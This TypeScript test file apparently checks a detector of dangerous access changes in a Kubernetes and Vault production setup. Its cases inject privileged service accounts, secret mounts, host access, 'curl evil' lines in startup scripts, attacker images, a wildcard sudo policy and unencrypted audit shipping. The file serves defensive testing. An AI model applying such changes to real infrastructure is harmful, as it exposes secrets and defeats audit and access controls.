import { testDangerous, testNamed } from "../support/matrix";
import type { Production } from "../support/production";

const meta = (name: string, namespace?: string) => ({ name, ...(namespace && { namespace }) });

const manifest =
  (kind: string, apiVersion: string, body: object, name = "extra") =>
  (production: Production) =>
    production.add("kubernetes_manifest", {
      manifest: { apiVersion, kind, metadata: meta(name, "vault"), ...body },
    });
const pod =
  (spec: object, namespace = "vault") =>
  (production: Production) =>
    production.add("kubernetes_pod_v1", {
      metadata: meta("extra", namespace),
      spec: { container: [{ name: "a", image: "example.com/a:1" }], ...spec },
    });
const template = (spec: object) => ({
  template: { spec: { containers: [{ name: "a", image: "example.com/a:1" }], ...spec } },
});

describe("access diff of production: pods", () => {
  testDangerous([
    [
      "a Deployment runs as Terraform",
      (production) =>
        production.add("kubernetes_deployment_v1", {
          metadata: meta("extra", "vault"),
          spec: {
            template: {
              spec: {
                service_account_name: "vault-terraform",
                container: [{ name: "a", image: "example.com/a:1" }],
              },
            },
          },
        }),
      "vault-terraform",
    ],
    [
      "a Job runs as the drill",
      manifest("Job", "batch/v1", { spec: template({ serviceAccountName: "vault-drill" }) }),
      "vault-drill",
    ],
    [
      "a CronJob runs as the backup",
      manifest("CronJob", "batch/v1", {
        spec: {
          schedule: "* * * * *",
          jobTemplate: { spec: template({ serviceAccountName: "vault-backup" }) },
        },
      }),
      "vault-backup",
    ],
    [
      "a Deployment of a List runs as Vault",
      (production) =>
        production.add("kubernetes_manifest", {
          manifest: {
            apiVersion: "v1",
            kind: "List",
            items: [
              {
                apiVersion: "apps/v1",
                kind: "Deployment",
                metadata: meta("extra", "vault"),
                spec: template({ serviceAccountName: "vault" }),
              },
            ],
          },
        }),
      "ServiceAccount vault",
    ],
    ["a pod runs as Vault", pod({ service_account_name: "vault" }), "ServiceAccount vault"],
    [
      "a pod reads a Secret of Vault",
      pod({ volume: [{ name: "v", secret: { secret_name: "vault-tls" } }] }),
      "vault-tls",
    ],
    [
      "a pod has a Secret of Vault in its environment",
      pod({
        container: [
          { name: "a", image: "example.com/a:1", env_from: [{ secret_ref: { name: "vault-tls" } }] },
        ],
      }),
      "vault-tls",
    ],
    [
      "a pod makes a token for Vault",
      pod({
        service_account_name: "vault-terraform",
        volume: [
          {
            name: "v",
            projected: { sources: [{ service_account_token: { audience: "vault", path: "t" } }] },
          },
        ],
      }),
      "vault-terraform",
    ],
    ["a pod of the node's network", pod({ host_network: true }, "production"), "node"],
    ["a pod sees the processes of the node", pod({ host_pid: true }, "production"), "node"],
    [
      "a pod with a capability of the node",
      pod(
        {
          container: [
            { name: "a", image: "a:1", security_context: { capabilities: { add: ["SYS_ADMIN"] } } },
          ],
        },
        "production",
      ),
      "SYS_ADMIN",
    ],
    [
      "the bootstrap runs another image",
      (production) => (production.pod("Bootstrap").container[0].image = "evil.example/vault:1.21.0"),
      "vault-bootstrap",
      "evil.example/vault",
    ],
    [
      "the bootstrap runs another script",
      (production) =>
        (production.resource("kubernetes_config_map_v1", "Bootstrap_Pod").data["bootstrap-init.sh"] +=
          "\ncurl evil"),
      "bootstrap-init.sh",
    ],
    [
      "the backup reads files of a ConfigMap that is not in the code",
      (production) => production.pod("Backup").volume.push({ name: "x", config_map: { name: "other" } }),
      "the files of the ConfigMap other",
      "runs code",
    ],
    [
      "a second resource for the scripts of the servers",
      (production) =>
        production.add("kubernetes_config_map_v1_data", {
          metadata: meta("vault-scripts", "vault"),
          data: { "reload-certificate.sh": "curl evil" },
        }),
      "reload-certificate.sh",
      "runs code",
    ],
    [
      "the bootstrap has another container first",
      (production) => {
        const spec = production.pod("Bootstrap");
        spec.init_container = [{ name: "evil", image: "evil.example/a:1" }, ...(spec.init_container ?? [])];
      },
      "evil.example/a",
    ],
    [
      "the backup saves to another bucket",
      (production) => {
        const all = production.pod("Backup");
        for (const it of [...all.container, ...(all.init_container ?? [])])
          for (const variable of it.env ?? [])
            if (/BUCKET/.test(variable.name as string)) variable.value = "evil";
      },
      "BUCKET",
    ],
    [
      "the backup runs as another ServiceAccount",
      (production) => (production.pod("Backup").service_account_name = "vault-terraform"),
      "vault-terraform",
    ],
    [
      "the drill unseals with another key",
      (production) =>
        (production.resource("kubernetes_config_map_v1", "Drill_Pod").data["seal.hcl"] = 'seal "transit" {}'),
      "seal.hcl",
    ],
    [
      "the first policy of the bootstrap",
      (production) =>
        (production.resource("kubernetes_config_map_v1", "Bootstrap_Pod").data["bootstrap-policy.hcl"] =
          'path "*" { capabilities = ["sudo"] }'),
      "bootstrap-policy.hcl",
    ],
    [
      "the audit log is sent without encryption",
      (production) => {
        const { data } = production.resource("kubernetes_config_map_v1", "AuditShipper");
        data["shipper.conf"] = (data["shipper.conf"] as string).replaceAll("https://", "http://");
      },
      "shipper.conf",
    ],
    [
      "another authority proves Vault's certificate to its jobs",
      (production) =>
        (production.resource("kubernetes_config_map_v1", "CaBundle_vault").data["ca.crt"] = "pem"),
      "ca.crt",
    ],
    [
      "the audit log is sent nowhere",
      (production) =>
        (production.resource("kubernetes_config_map_v1", "AuditShipper").data["shipper.conf"] = ""),
      "shipper.conf",
    ],
    [
      "a ServiceAccount has another role of AWS",
      (production) =>
        (production.resource("kubernetes_service_account_v1", "Drill").metadata.annotations[
          "eks.amazonaws.com/role-arn"
        ] = "arn:aws:iam::333333333333:role/production-vault-deploy"),
      "vault-drill",
    ],
    [
      "a token of a ServiceAccount in a Secret",
      (production) =>
        production.add("kubernetes_secret_v1", {
          metadata: {
            ...meta("extra", "vault"),
            annotations: { "kubernetes.io/service-account.name": "vault" },
          },
          type: "kubernetes.io/service-account-token",
        }),
      "extra",
    ],
    [
      "a token of Terraform's ServiceAccount lives for a year",
      (production) =>
        (production.stack("config").ephemeral.kubernetes_token_request_v1.terraform.spec.expiration_seconds =
          31536000),
      "kubernetes_token_request",
    ],
    [
      "a token of another ServiceAccount",
      (production) =>
        (production.stack("config").ephemeral.kubernetes_token_request_v1.terraform.metadata.name = "vault"),
      "kubernetes_token_request",
    ],
  ]);

  testNamed([
    [
      "a backup that never runs",
      (production) => (production.resource("kubernetes_cron_job_v1", "Backup").spec.schedule = "0 0 31 2 *"),
      "0 0 31 2 *",
    ],
    [
      "a backup that waits",
      (production) => (production.resource("kubernetes_cron_job_v1", "Backup").spec.suspend = true),
      "suspend",
    ],
    [
      "another authority proves Vault's certificate to services",
      (production) =>
        (production.resource("kubernetes_config_map_v1", "CaBundle_production").data["ca.crt"] = "pem"),
      "ca.crt",
    ],
    [
      "a service logs in with another role",
      (production) =>
        (production.resource("kubernetes_deployment_v1").spec.template.metadata.annotations[
          "vault.hashicorp.com/role"
        ] = "vault-backup"),
      "vault.hashicorp.com/role",
    ],
    [
      "a service runs as another ServiceAccount",
      (production) =>
        (production.resource("kubernetes_deployment_v1").spec.template.spec.service_account_name = "other"),
      "other",
    ],
  ]);
});
